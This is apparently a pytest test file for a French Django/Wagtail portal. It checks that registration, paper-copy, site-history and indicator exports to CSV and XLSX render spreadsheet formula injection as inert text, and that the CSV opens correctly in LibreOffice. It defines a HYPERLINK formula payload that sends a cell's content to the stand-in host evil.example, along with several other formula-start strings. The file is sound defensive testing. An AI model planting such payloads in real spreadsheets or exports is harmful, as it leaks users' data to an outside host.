"""Every spreadsheet the portal produces is inert and opens in French office software."""

import csv
import datetime
import io
import os
import shutil
import subprocess

from django.urls import reverse

from wagtail.models import PageLogEntry

import openpyxl
import pytest

from events.models import Registration
from events.services import Attendee, register
from indicators.models import PaperCopy
from portal.exports import Percent, Text, csv_bytes, sheet_title, xlsx_bytes

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("frozen_now")]

MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'
OTHER_STARTS = ["+33 6 12", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]


def content_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def french_csv(content):
    assert content.startswith(b"\xef\xbb\xbf"), "a BOM, for Excel"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def xlsx_cells(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert(content, kind, needle=MALICIOUS):
    if kind == "csv":
        values = [value for row in french_csv(content) for value in row]
        assert "'" + needle in values, "the formula is kept as text, with an apostrophe"
        assert needle not in values
    else:
        cells = [cell for cell in xlsx_cells(content) if cell.value and needle in str(cell.value)]
        assert cells, "the text is there"
        assert all(cell.data_type == "s" for cell in cells), "never a formula"


def test_the_writer_escapes_every_formula_start_and_keeps_codes_as_text():
    rows = [[MALICIOUS, *OTHER_STARTS, Text("0612345678"), Percent(0.125)]]
    parsed = french_csv(csv_bytes(["a", "b", "c", "d", "e", "f", "g", "h"], rows))[1]

    assert parsed[:6] == ["'" + MALICIOUS, *("'" + value for value in OTHER_STARTS)]
    assert parsed[6:] == ["0612345678", "12,5 %"]
    cells = xlsx_cells(xlsx_bytes([("Feuille", ["a", "b", "c", "d", "e", "f", "g", "h"], rows)]))[8:]
    assert [cell.data_type for cell in cells[:7]] == ["s"] * 7
    assert cells[0].value == MALICIOUS and cells[6].value == "0612345678"
    assert cells[7].value == 0.125 and cells[7].number_format == "0.0%"


def test_sheet_names_are_valid_unique_and_shortened_visibly():
    used = set()
    long = "Participants uniques par commune et par public (année en cours)"
    first, second = sheet_title(long, used), sheet_title(long, used)

    assert len(first) <= 31 and len(second) <= 31 and first != second
    assert first.endswith("…") and second.endswith("(2)")
    assert sheet_title("a/b:c?", set()) == "a b c"


@pytest.fixture
def malicious_booking(workshop):
    event, [session, _] = workshop
    attendee = Attendee(first_name=MALICIOUS, last_name="Martin", email="x@example.org", phone="06 39 98 00 11")
    register(event, [session.pk], attendee)
    return session


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_malicious_name_is_text_in_the_registration_exports(admin_client, malicious_booking, kind):
    for query in ({"export": kind}, {"export": kind, "session": malicious_booking.pk}):
        response = admin_client.get("/admin/inscriptions/", query)
        assert response.status_code == 200
        assert_inert(content_of(response), kind)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_malicious_place_is_text_in_the_paper_copies_export(admin_client, home_page, kind):
    from tests.resources.factories import ResourceIndexPageFactory, ResourcePageFactory

    resource = ResourcePageFactory(parent=ResourceIndexPageFactory(parent=home_page))
    PaperCopy.objects.create(resource=resource, quantity=20, day="2027-03-01", place=MALICIOUS)

    response = admin_client.get("/admin/exemplaires-papier/", {"export": kind})

    assert_inert(content_of(response), kind)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_malicious_page_title_is_text_in_the_site_history_export(admin_client, home_page, kind):
    PageLogEntry.objects.log_action(home_page, "wagtail.edit", title=MALICIOUS, user=None)

    response = admin_client.get(reverse("wagtailadmin_reports:site_history"), {"export": kind})

    assert response.status_code == 200
    assert_inert(content_of(response), kind)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_malicious_comment_is_text_in_the_indicators_exports(admin_client, malicious_booking, kind):
    from indicators.models import FeedbackAnswer

    FeedbackAnswer.objects.create(
        session=malicious_booking,
        event_title="Atelier",
        session_day=datetime.date(2027, 3, 1),  # before the frozen day: the period counts it
        usefulness=4,
        takeaway=MALICIOUS,
    )
    query = {"du": "2027-01-01", "au": "2027-12-31", "export": kind}
    if kind == "csv":
        query["table"] = "avis-commentaires"
    response = admin_client.get("/admin/indicateurs/", query)

    assert response.status_code == 200, response.status_code
    assert_inert(content_of(response), kind)


def test_the_registration_csv_opens_in_libreoffice_with_accents_and_leading_zeros(admin_client, workshop, tmp_path):
    if not shutil.which("soffice"):
        message = "LibreOffice missing: apt-get install libreoffice-calc-nogui (make test installs it as root)"
        pytest.fail(message) if os.environ.get("CI") else pytest.skip(message)
    event, [session, _] = workshop
    attendee = Attendee(first_name="Hélène", last_name="Lefèvre", email="h@example.org", phone="06 39 98 00 11")
    register(event, [session.pk], attendee)
    path = tmp_path / "inscriptions.csv"
    path.write_bytes(content_of(admin_client.get("/admin/inscriptions/", {"export": "csv"})))

    # LibreOffice's CSV import with what the French dialect says: ";" (59), '"' (34), UTF-8 (76).
    subprocess.run(  # noqa: S603 - fixed arguments
        [
            shutil.which("soffice"),
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--infilter=CSV:59,34,76,1",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    sheet = openpyxl.load_workbook(tmp_path / "inscriptions.xlsx").active
    rows = list(sheet.iter_rows(values_only=True))
    line = dict(zip(rows[0], rows[1], strict=True))

    assert line["Prénom"] == "Hélène" and line["Nom"] == "Lefèvre"
    assert line["Téléphone"] == "06 39 98 00 11"
    assert Registration.objects.count() == 1
